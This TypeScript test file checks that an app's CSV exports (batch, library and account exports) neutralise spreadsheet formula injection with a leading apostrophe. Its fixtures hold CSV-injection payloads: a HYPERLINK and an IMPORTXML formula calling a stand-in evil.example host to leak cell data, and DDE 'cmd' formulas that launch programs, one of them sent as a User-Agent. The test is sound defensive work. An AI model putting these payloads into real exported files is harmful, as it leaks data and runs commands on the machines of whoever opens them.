import { expect } from 'chai';
import request from 'supertest';
import { buildTestApp, TestApp } from '../../helpers/test-app';
import { signUp, csrfFrom, DEFAULT_PASSWORD, type SignedUp } from '../../helpers/session';
import { seedImageWithBlob } from '../../helpers/privacy-seed';
import { unzipEntries } from '../../helpers/unzip';
import { csvRecords } from '../../helpers/csv';

/**
 * Text a spreadsheet would run as a formula (OWASP "CSV Injection"): each starts with = + - @ tab or
 * CR. Every CSV Sightline hands out must show these as text, with a leading apostrophe.
 */
const HOSTILE = {
  alt_text: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  caption: '+SUM(A1:A9)',
  title: '-2+3',
  description: '@cmd|"/C calc"!A0',
  filename: '\t=1+2',
  text: '\r=1+2',
};
const BATCH_NAME = '=IMPORTXML("http://evil.example","//a")';
const ORIGINAL_NAME = '+photo.jpg';
const USER_AGENT = '=cmd|"/C notepad"!A0';

describe('CSV exports neutralise spreadsheet formulas', () => {
  let t: TestApp;
  let alice: SignedUp;
  let batchId: string;
  before(async () => {
    t = await buildTestApp();
    alice = await signUp(t.app);
    // A sign-in from a hostile client leaves its user agent in the security log.
    const client = request.agent(t.app);
    const csrf = await csrfFrom(client, '/login');
    await client.post('/login').set('User-Agent', USER_AGENT).type('form').send({ _csrf: csrf, email: alice.user.email, password: DEFAULT_PASSWORD }).expect(303);
    const seeded = await seedImageWithBlob(t, { userId: alice.user.id, userRetention: 'forever' });
    batchId = seeded.batchId;
    await t.deps.db('batches').where({ id: batchId }).update({ name: BATCH_NAME });
    await t.deps.db('images').where({ id: seeded.imageId }).update({ original_name: ORIGINAL_NAME });
    const now = t.clock.now().getTime();
    await t.deps.db('descriptions').insert({
      image_id: seeded.imageId, user_id: alice.user.id, ...HOSTILE, tags_json: '["-tag"]',
      describer: 'openai', model: 'test', prompt_version: '1', duration_ms: 1, created_at: now, updated_at: now,
    });
  });
  after(async () => t.close());

  const neutralised = (value: string) => `'${value}`;

  it('in a batch\'s results export', async () => {
    const res = await alice.agent.get(`/batches/${batchId}/export.csv`).expect(200);
    const [row] = csvRecords(res.text);
    for (const [field, value] of Object.entries(HOSTILE)) expect(row[field], field).to.equal(neutralised(value));
    expect(row.original_name).to.equal(neutralised(ORIGINAL_NAME));
    expect(row.tags).to.equal(neutralised('-tag'));
  });

  it('in the library\'s results export', async () => {
    const res = await alice.agent.get('/images/export.csv').expect(200);
    const [row] = csvRecords(res.text);
    for (const [field, value] of Object.entries(HOSTILE)) expect(row[field], field).to.equal(neutralised(value));
  });

  it('in every CSV of the account export', async () => {
    const zip = (await alice.agent.get('/account/export').responseType('blob').expect(200)).body as Buffer;
    const entries = unzipEntries(zip);
    const table = (name: string) => csvRecords(entries.get(`${name}.csv`)!.toString('utf8'));

    const [result] = table('results');
    for (const [field, value] of Object.entries(HOSTILE)) expect(result[field], field).to.equal(neutralised(value));
    expect(result.original_name).to.equal(neutralised(ORIGINAL_NAME));
    expect(table('batches')[0].name).to.equal(neutralised(BATCH_NAME));
    expect(table('audit-log').map((e) => e.user_agent)).to.include(neutralised(USER_AGENT));
    // The JSON files keep the text as it is: only spreadsheets run formulas.
    const json = JSON.parse(entries.get('results.json')!.toString('utf8')) as Record<string, unknown>[];
    expect(json[0]).to.include(HOSTILE);
  });
});
